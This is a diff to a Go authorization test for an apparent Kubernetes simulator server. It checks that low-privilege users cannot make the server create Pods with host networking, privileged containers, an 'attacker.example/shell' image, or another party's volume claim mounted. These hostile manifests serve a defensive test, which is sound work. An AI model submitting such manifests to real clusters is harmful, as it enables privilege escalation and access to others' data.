@@ -79,7 +79,8 @@ func bind(t testing.TB, ns, user, role string) {
 
 // TestPodTemplateNeedsCreatePods: a user bound only to the simulators roles
 // tries to get a Pod of their choosing (the host's network, a privileged
-// container, their own image) made by the server's account. Each is refused
+// container, their own image, a claim of the namespace mounted) made by the
+// server's account. Each is refused
 // with a 403 that names the missing permission; the same spec from a user
 // who may create Pods is accepted, and a plain simulator stays open to the
 // simulators roles. Another ServiceAccount or a token is refused to
@@ -113,6 +114,15 @@ metadata:
   name: evil-image
 spec:
   image: attacker.example/shell:latest
+`,
+		// Any claim of the namespace, mounted read-write into a Pod the
+		// server makes: what create pods allows.
+		"etcdPersistentVolumeClaimName": `apiVersion: sim.x-k8s.io/v1alpha1
+kind: Simulator
+metadata:
+  name: evil-etcdpersistentvolumeclaimname
+spec:
+  etcdPersistentVolumeClaimName: someone-elses-data
 `,
 	}
 	for name, manifest := range attacks {
